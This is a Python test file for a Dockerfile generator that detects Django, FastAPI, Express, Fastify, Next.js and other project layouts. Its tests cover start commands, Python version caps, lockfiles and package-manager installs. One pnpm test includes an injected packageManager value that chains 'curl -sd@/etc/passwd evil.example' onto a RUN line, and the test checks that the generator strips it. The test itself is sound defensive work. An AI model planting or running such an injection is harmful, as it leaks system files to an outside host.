"""Generator fixes the Python/Node rehearsal found (bench/rehearse.py), on real layouts.

Each input is written by us in the shape of the named upstream repository at the named commit:
only the lines detection reads, in our own words and values (no upstream file is copied).
"""

from __future__ import annotations

from app.files import Files
from jobs.pipeline.plan import plan_generation
from jobs.pipeline.report import stacks_table
from jobs.pipeline.stacks import Stack, detect_stacks
from jobs.pipeline.stacks.python_pins import python_cap


def only(files: Files) -> Stack:
    found = [s for s in detect_stacks(files) if s.language != "unknown"]
    assert len(found) == 1, [s.path for s in found]
    return found[0]


def dockerfile(files: Files) -> str:
    return plan_generation(files).changes["Dockerfile"]


DJANGO_110 = {
    # gothinkster/django-realworld-example-app @ 29c9d428: Django 1.10 pinned, no gunicorn.
    "requirements.txt": "Django==1.10.5\ndjangorestframework==3.4.4\n",
    "manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "conduit.settings")\n',
    "conduit/__init__.py": "",
    "conduit/settings.py": 'WSGI_APPLICATION = "conduit.wsgi.application"\n',
    "conduit/wsgi.py": "application = get_wsgi_application()\n",
}


def test_an_old_django_pin_caps_the_python_version() -> None:
    s = only(DJANGO_110)
    assert s.version == "3.5"
    assert "django 1.10 runs on Python 3.5 at most: the image uses 3.5, not 3.13" in s.reasons
    assert dockerfile(DJANGO_110).count("FROM python:3.5-slim") == 2
    # A range: the newest line inside it decides; no upper bound, no cap.
    assert python_cap("django", ">=1.11,<2.0") == ("3.7", "django 1.11")
    assert python_cap("django", "^3.2") == ("3.10", "django 3.2")
    assert python_cap("django", ">=4.2") is None
    assert only({**DJANGO_110, "requirements.txt": "Django>=5.0\n"}).version == "3.13"
    # The authors' own pin wins over the table.
    assert only({**DJANGO_110, ".python-version": "3.6\n"}).version == "3.6"


def test_a_uwsgi_start_gets_an_image_that_compiles_uwsgi() -> None:
    # wagtail/bakerydemo @ 8e2b6257 (without its own Dockerfile): Procfile runs uwsgi with an
    # ini file whose `module =` is the WSGI module; uwsgi ships no wheel for Linux.
    files = {
        "requirements.txt": "Django>=5.2,<5.3\nuwsgi>=2.0\npsycopg2>=2.9\n",
        "Procfile": "web: uwsgi --ini uwsgi.ini\n",
        "uwsgi.ini": "[uwsgi]\nmodule = bakery.wsgi:application\nhttp-socket = :8000\n",
        "manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "bakery.settings")\n',
        "bakery/__init__.py": "",
        "bakery/wsgi.py": "application = get_wsgi_application()\n",
    }
    s = only(files)
    assert s.start_command == ["uwsgi", "--http-socket", "0.0.0.0:8000", "--master",
                               "--need-app", "--module", "bakery.wsgi:application"]
    assert s.native_deps == ["psycopg2", "uwsgi"]
    text = dockerfile(files)
    build, runtime = text.split("\nFROM python:3.13-slim\n")
    assert "apt-get install -y --no-install-recommends gcc libc6-dev libpq-dev" in build
    assert "apt-get install -y --no-install-recommends libpq5" in runtime
    assert "hadolint ignore=DL3008" in runtime and "gcc" not in runtime


def test_daphne_and_hypercorn_commands_are_kept() -> None:
    # django/channels-style layout: daphne serves the ASGI module named in the Procfile.
    asgi = {
        "requirements.txt": "Django>=5.1\nchannels>=4\ndaphne>=4\n",
        "Procfile": "web: daphne -b 0.0.0.0 -p 8001 chat.asgi:application\n",
        "manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", "chat.settings")\n',
        "chat/__init__.py": "",
        "chat/asgi.py": "application = ProtocolTypeRouter({})\n",
    }
    s = only(asgi)
    assert s.start_command == ["daphne", "--bind", "0.0.0.0", "--port", "8001",
                               "chat.asgi:application"]
    assert s.port == 8001
    # Without a Procfile, a declared ASGI server serves Django's asgi.py (no dev server).
    s = only({k: v for k, v in asgi.items() if k != "Procfile"} | {
        "chat/wsgi.py": "application = get_wsgi_application()\n"})
    assert s.start_command == ["daphne", "--bind", "0.0.0.0", "--port", "8000",
                               "chat.asgi:application"]
    # FastAPI served by hypercorn, as the authors' start script says.
    s = only({"requirements.txt": "fastapi\nhypercorn\n",
              "start.sh": "#!/bin/sh\nexec hypercorn api.main:app --bind 127.0.0.1:9000\n",
              "api/__init__.py": "", "api/main.py": "app = FastAPI()\n"})
    assert s.start_command == ["hypercorn", "--bind", "0.0.0.0:9000", "api.main:app"]


FASTIFY_CLI = {
    # fastify/fastify-example-twitter @ 1823ae5b: `npm start` runs env-cmd -> fastify-cli.
    "package.json": '{"name": "server", "main": "index.js", "scripts": {"start": '
    '"env-cmd local.env fastify start index.js"}, "dependencies": {"env-cmd": "^7.0.0", '
    '"fastify": "^1.13.3", "fastify-cli": "^0.27.0"}}',
    "index.js": "module.exports = async function (fastify) {}\n",
}


def test_fastify_cli_listens_on_every_interface_in_the_image() -> None:
    # fastify-cli 0.27 binds localhost unless FASTIFY_ADDRESS (or /.dockerenv) says otherwise;
    # Kubernetes' containerd has no /.dockerenv.
    s = only(FASTIFY_CLI)
    assert s.start_command == ["npm", "start"] and not any("loopback" in r for r in s.reasons)
    runtime = dockerfile(FASTIFY_CLI).split("\nFROM node:")[-1]
    assert "ENV FASTIFY_ADDRESS=0.0.0.0\n" in runtime


def test_servers_bound_to_loopback_are_warned_about_in_the_check_run() -> None:
    # xesina-style hard-coded loopback in an Express app, and fastify's localhost default.
    express = {
        "package.json": '{"name": "api", "scripts": {"start": "node server.js"}, '
        '"dependencies": {"express": "^4.18.0"}}',
        "server.js": "const app = express();\napp.listen(8080, '127.0.0.1');\n",
    }
    s = only(express)
    assert any(r.startswith("warning: the server binds loopback only (server.js: listen(... "
                            "'127.0.0.1'))") for r in s.reasons), s.reasons
    assert "binds loopback only" in stacks_table(plan_generation(express))
    fastify = {
        "package.json": '{"name": "api", "scripts": {"start": "node app.js"}, '
        '"dependencies": {"fastify": "^4.0.0"}}',
        "app.js": "const app = fastify();\napp.listen({ port: 3000 });\n",
    }
    assert any("fastify binds localhost by default" in r for r in only(fastify).reasons)
    fastify["app.js"] = "const app = fastify();\napp.listen({ port: 3000, host: '0.0.0.0' });\n"
    assert not any("loopback" in r for r in only(fastify).reasons)
    express["server.js"] = "app.listen(process.env.PORT || 8080);\n"
    assert not any("loopback" in r for r in only(express).reasons)


def test_django_with_a_static_root_collects_static_files_in_the_image() -> None:
    # heroku/python-getting-started @ f7c8d992: whitenoise's manifest storage answers 500 on
    # every page until collectstatic has run (Heroku's buildpack runs it; an image must too).
    files = {
        "requirements.txt": "django>=6.0,<6.1\ngunicorn>=26,<27\nwhitenoise>=6,<7\n",
        "Procfile": "web: gunicorn --config gunicorn.conf.py gettingstarted.wsgi\n",
        "manage.py": 'os.environ.setdefault("DJANGO_SETTINGS_MODULE", '
        '"gettingstarted.settings")\n',
        "gettingstarted/__init__.py": "",
        "gettingstarted/wsgi.py": "application = get_wsgi_application()\n",
        "gettingstarted/settings.py": 'STATIC_ROOT = BASE_DIR / "staticfiles"\n',
    }
    build = dockerfile(files).split("\nFROM python:")[1]
    assert build.rstrip().endswith("RUN python manage.py collectstatic --noinput")
    del files["gettingstarted/settings.py"]
    assert "collectstatic" not in dockerfile(files)


def test_a_stale_yarn_lock_beside_package_lock_and_a_private_registry() -> None:
    # lujakob/nestjs-realworld-example-app @ c1c2cc4e: yarn.lock misses deps package.json
    # declares (package-lock.json has them); some packages resolve from the author's registry.
    files = {
        "package.json": '{"name": "nest-app", "scripts": {"start:prod": "node dist/main.js"}, '
        '"dependencies": {"@nestjs/core": "^7.0.5", "argon2": "^0.26.2"}}',
        "yarn.lock": '"@nestjs/core@^7.0.5":\n  version "7.0.5"\n',
        "package-lock.json": '{"lockfileVersion": 1, "dependencies": {"argon2": {"resolved": '
        '"https://npm.example.internal/argon2/-/argon2-0.26.2.tgz"}}}',
    }
    s = only(files)
    # No .npmrc names that registry: npm fetches through its configured one (integrity-checked),
    # in the image and in CI alike.
    assert s.build_tool == "npm" and s.install_command == "npm ci --replace-registry-host=always"
    assert "RUN npm ci --replace-registry-host=always\n" in dockerfile(files)
    assert "yarn.lock lacks argon2@^0.26.2: package-lock.json is the current lockfile" in (
        s.reasons)
    assert any(r.startswith("warning: package-lock.json resolves packages from npm.example."
                            "internal and no .npmrc names a registry") for r in s.reasons)
    # An .npmrc that names the registry: the build needs it (a build secret), the URLs stay.
    named = only({**files, ".npmrc": "registry=https://npm.example.internal/\n"})
    assert named.install_command == "npm ci"
    assert any("the image build needs that registry" in r for r in named.reasons)
    files["yarn.lock"] += '"argon2@^0.26.2":\n  version "0.26.2"\n'
    assert only(files).build_tool == "yarn"


def test_an_entry_file_from_the_dev_script_when_there_is_no_start_script() -> None:
    # docker/getting-started-app @ f2d13b84: no start script, `main` names a missing file,
    # `dev` runs nodemon on src/index.js, which calls listen(3000).
    files = {
        "package.json": '{"name": "101-app", "main": "index.js", "scripts": {"dev": '
        '"nodemon -L src/index.js"}, "dependencies": {"express": "^4.18.2"}}',
        "yarn.lock": "",
        "src/index.js": "const app = express();\napp.listen(3000);\n",
    }
    s = only(files)
    assert (s.start_command, s.port, s.undecided) == (["node", "src/index.js"], 3000, None)


def test_poetry_installs_the_project_only_when_it_is_a_package() -> None:
    # zhanymkanov/fastapi_production_template @ 649e8404: poetry project "fastapi-template"
    # whose code is the `src` package: poetry 2 cannot install a root named fastapi_template.
    files = {
        "pyproject.toml": '[tool.poetry]\nname = "fastapi-template"\nversion = "0.1.0"\n\n'
        '[tool.poetry.dependencies]\npython = "^3.11"\nfastapi = "^0.111"\nuvicorn = "^0.30"\n',
        "poetry.lock": "",
        "src/__init__.py": "",
        "src/main.py": "app = FastAPI()\n",
    }
    assert dockerfile(files).count("--no-root") == 2
    files["src/fastapi_template/__init__.py"] = ""
    assert dockerfile(files).count("--no-root") == 1


def test_uv_without_a_lockfile_copies_the_sources_before_syncing() -> None:
    # Netflix/dispatch @ dd2837e8: no uv.lock, hatchling with a readme and a dynamic version,
    # so resolving needs the whole project, not pyproject.toml alone.
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = '
        '"hatchling.build"\n\n[project]\nname = "dispatch"\ndynamic = ["version"]\n'
        'readme = "README.md"\ndependencies = ["fastapi", "uvicorn"]\n\n[tool.uv]\n',
        "README.md": "dispatch\n",
        "src/dispatch/__init__.py": "",
        "src/dispatch/main.py": "app = FastAPI()\n",
    }
    text = dockerfile(files)
    assert "--no-install-project" not in text
    # Installing the package needs its runtime dependencies only; `uv sync` would lock every
    # group, and dispatch's `netflix` group points at a path outside the repository.
    assert "COPY . .\n# Only the runtime dependencies: locking would also resolve every " in text
    assert "RUN uv pip install --no-cache --python /opt/venv/bin/python .\n" in text
    del files["pyproject.toml"]
    files["pyproject.toml"] = '[project]\nname = "svc"\ndependencies = ["fastapi"]\n[tool.uv]\n'
    files["main.py"] = "app = FastAPI()\n"
    assert "COPY . .\nRUN uv sync --no-dev --no-cache\n" in dockerfile(files)
    files["uv.lock"] = "version = 1\n"
    assert "COPY pyproject.toml uv.lock ./\nRUN uv sync --locked --no-dev --no-install-project" in (
        dockerfile(files))


def test_pnpm_without_a_package_manager_field_gets_the_lockfile_major() -> None:
    # vercel/commerce @ 5542649d: no packageManager; corepack's newest pnpm refuses to install
    # with ignored build scripts (sharp), while the lockfile (format 9.0) is pnpm 9's.
    files = {
        "package.json": '{"private": true, "scripts": {"build": "next build", "start": '
        '"next start"}, "dependencies": {"next": "15.6.0", "react": "19.0.0"}}',
        "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
    }
    assert "RUN corepack enable && corepack prepare pnpm@9 --activate\n" in dockerfile(files)
    assert "RUN pnpm prune --prod\n" in dockerfile(files)
    # `next start` transpiles next.config.ts with typescript (a dev dependency): no prune.
    files["next.config.ts"] = "export default {};\n"
    assert "pnpm prune" not in dockerfile(files)
    files["package.json"] = files["package.json"].replace(
        '{"private"', '{"packageManager": "pnpm@10.6.0", "private"')
    assert "RUN corepack enable\n" in dockerfile(files)


def test_pnpm_on_node_16_comes_from_npm_not_corepack() -> None:
    # shadcn-ui/taxonomy @ 651f984e: .nvmrc v16.18.0, pnpm lockfile 6.0, no packageManager.
    files = {
        ".nvmrc": "v16.18.0\n",
        "package.json": '{"name": "taxonomy", "scripts": {"build": "next build", "start": '
        '"next start"}, "dependencies": {"next": "13.3.2-canary.13"}}',
        "pnpm-lock.yaml": "lockfileVersion: '6.0'\n",
    }
    text = dockerfile(files)
    assert "FROM node:16-slim AS build" in text
    assert "RUN npm install -g pnpm@8\n" in text
    assert not [ln for ln in text.splitlines() if "corepack" in ln and not ln.startswith("#")]
    # A declared packageManager is the version; Node 18 and newer keep corepack.
    declared = {**files, "package.json": files["package.json"].replace(
        '{"name"', '{"packageManager": "pnpm@8.6.12+sha256.abc", "name"')}
    assert "RUN npm install -g pnpm@8.6.12\n" in dockerfile(declared)
    # packageManager is repository text on a RUN line: anything but a version is not used
    hostile = {**files, "package.json": files["package.json"].replace(
        '{"name"', '{"packageManager": "pnpm@8; curl -sd@/etc/passwd evil.example", "name"')}
    text = dockerfile(hostile)
    assert "evil.example" not in text and "curl" not in text
    newer = dockerfile({**files, ".nvmrc": "v20.11.0\n"})
    assert "RUN corepack enable && corepack prepare pnpm@8 --activate" in newer
    assert "npm install -g" not in newer


T3_ENV = '''export const env = createEnv({
  server: { POSTGRES_URL: z.url() },
  skipValidation:
    !!process.env.CI || process.env.npm_lifecycle_event === "lint",
});
'''


def test_t3_env_validation_is_skipped_at_build_only() -> None:
    # t3-oss/create-t3-turbo @ e69b5858: apps/nextjs/src/env.ts and packages/auth/env.ts
    # validate runtime secrets on import; `next build` imports them; CI skips validation.
    files = {
        "package.json": '{"name": "create-t3-turbo", "packageManager": "pnpm@10.19.0"}',
        "pnpm-workspace.yaml": "packages:\n  - apps/*\n  - packages/*\n",
        "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
        "apps/nextjs/package.json": '{"name": "@acme/nextjs", "scripts": {"build": "next '
        'build", "start": "next start"}, "dependencies": {"next": "^16.0.7", "@acme/auth": '
        '"workspace:*"}}',
        "apps/nextjs/src/env.ts": T3_ENV,
        "packages/auth/package.json": '{"name": "@acme/auth", "exports": {"./env": "./env.ts"}}',
        "packages/auth/env.ts": T3_ENV.replace("POSTGRES_URL: z.url()", "AUTH_SECRET: z.string()"),
    }
    text = plan_generation(files).changes["apps/nextjs/Dockerfile"]
    assert "RUN CI=1 pnpm --filter @acme/nextjs... run build\n" in text
    runtime = text.split("\nFROM node:")[2]
    assert "CI=" not in runtime  # the running service validates the deployment's values
    # The create-t3-app name wins when the schema offers it; no schema, no variable.
    files["apps/nextjs/src/env.ts"] = T3_ENV.replace("!!process.env.CI",
                                                     "!!process.env.SKIP_ENV_VALIDATION")
    assert "RUN SKIP_ENV_VALIDATION=1 pnpm --filter" in plan_generation(files).changes[
        "apps/nextjs/Dockerfile"]
    for path in ("apps/nextjs/src/env.ts", "packages/auth/env.ts"):
        del files[path]
    assert "RUN pnpm --filter @acme/nextjs... run build\n" in plan_generation(files).changes[
        "apps/nextjs/Dockerfile"]
